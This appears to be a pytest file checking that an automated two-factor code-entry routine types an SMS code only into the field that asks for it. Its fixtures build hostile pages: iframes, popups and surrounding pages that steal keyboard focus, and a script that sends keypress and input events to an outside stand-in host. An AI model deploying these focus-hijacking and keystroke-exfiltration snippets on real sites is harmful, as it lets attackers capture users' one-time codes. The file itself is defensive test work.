"""Others want the focus while a code is typed: a frame of another site, the page around the frame that asks, a window that opens.

Whoever takes it, the code goes to the field that asks, once, and to nobody else. The truth is what was posted and what was overheard.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any
from urllib.parse import parse_qsl, urlsplit

import pytest
from faces import settle

from loomal_playwright import Ledger

if TYPE_CHECKING:
    from pathlib import Path

HOME, OTHER, CODE = "https://login.example.test", "https://chat.example.net", "482913"
_LEAD = "<!doctype html><meta charset=utf-8><h1>Enter the verification code</h1><p>We texted 6 digits to •••• 42.</p>"
_BOX = "<input name=b maxlength=1 inputmode=numeric style='width:40px;height:48px'>"
_BOXES = (
    f"<form method=post action=/in>{_BOX * 6}<button>Verify</button></form><script>const boxes = [...document.forms[0].elements];"
    "boxes.forEach((box, i) => box.addEventListener('input', () => { boxes[i + 1].focus(); {then} }))</script>"
)
_SINGLE = "<form method=post action=/in><input name=b maxlength=6 {on}><button>Verify</button></form>"
_FRAME = f"<iframe src={OTHER}/></iframe>"
_TELL = "parent.frames.length && frames[0].postMessage(1, '*');"
_INSERT = (
    f"if (!window.one) {{ one = document.createElement('iframe'); one.src = '{OTHER}/'; document.body.append(one); one.focus() }}"
)
_OVERHEARD = f"const tell = (e) => fetch('{OTHER}/heard?' + e.type); for (const name of ['keypress', 'input']) addEventListener(name, tell);"
_GREEDY = (
    f"<!doctype html><input id=own><script>{_OVERHEARD} const grab = () => {{ window.focus(); own.focus() }};"
    "onmessage = grab; onfocus = grab; if ({always}) setInterval(grab, 2)</script>"
)
_AROUND = (
    f"<!doctype html><title>Account</title><iframe src=/asks width=600 height=400></iframe><input id=own><script>{_OVERHEARD}"
)
# by name: the page; whether the frame grabs the focus all the time, or only when it is told or given it
PAGES = {
    "a frame, all the time": (_LEAD + _BOXES.replace("{then}", "") + _FRAME, "true"),
    "a frame that is told of the first digit": (_LEAD + _BOXES.replace("{then}", _TELL) + _FRAME, "false"),
    "a frame that is given it": (_LEAD + _BOXES.replace("{then}", "document.querySelector('iframe').focus()") + _FRAME, "false"),
    "a frame that comes with the first digit": (_LEAD + _BOXES.replace("{then}", _INSERT), "true"),
    "a window that opens": (_LEAD + _BOXES.replace("{then}", f"window.two ||= open('{OTHER}/');"), "true"),
    "a frame, from a single field": (_LEAD + _SINGLE.replace("{on}", f'onfocus="{_TELL}"') + _FRAME, "true"),
    "the page around": (_AROUND + "setInterval(() => own.focus(), 2)</script>", "false"),
}


@pytest.mark.parametrize("name", PAGES)
def test_whoever_takes_the_focus_gets_nothing_of_the_code(face: Any, page: Any, tmp_path: Path, name: str) -> None:
    markup, always = PAGES[name]
    posted: list[str] = []
    heard: list[str] = []

    def answer(route: Any) -> Any:
        url = urlsplit(route.request.url)
        if route.request.method == "POST":
            posted.append("".join(value for _, value in parse_qsl(route.request.post_data)))
        if url.path == "/heard":
            heard.append(url.query)
        body = _LEAD + _BOXES.replace("{then}", "") if url.path == "/asks" else markup
        body = "<h1>Welcome back, Jane</h1><a href=/out>Sign out</a>" if posted else body
        return route.fulfill(body=_GREEDY.replace("{always}", always) if url.netloc in OTHER else body, content_type="text/html")

    async def go() -> Any:
        await settle(page.context.route("**/*", answer))
        await settle(page.goto(f"{HOME}/"))
        sources: dict[str, Any] = {"inbox": lambda _: CODE, "ledger": Ledger(f"sqlite:///{tmp_path}/ledger")}
        return await settle(face.api.solve_2fa(page, label="jane", factors=("sms",), origins=[HOME], timeout=20_000, **sources))

    face.run(go())
    assert posted == [CODE]
    assert heard == []
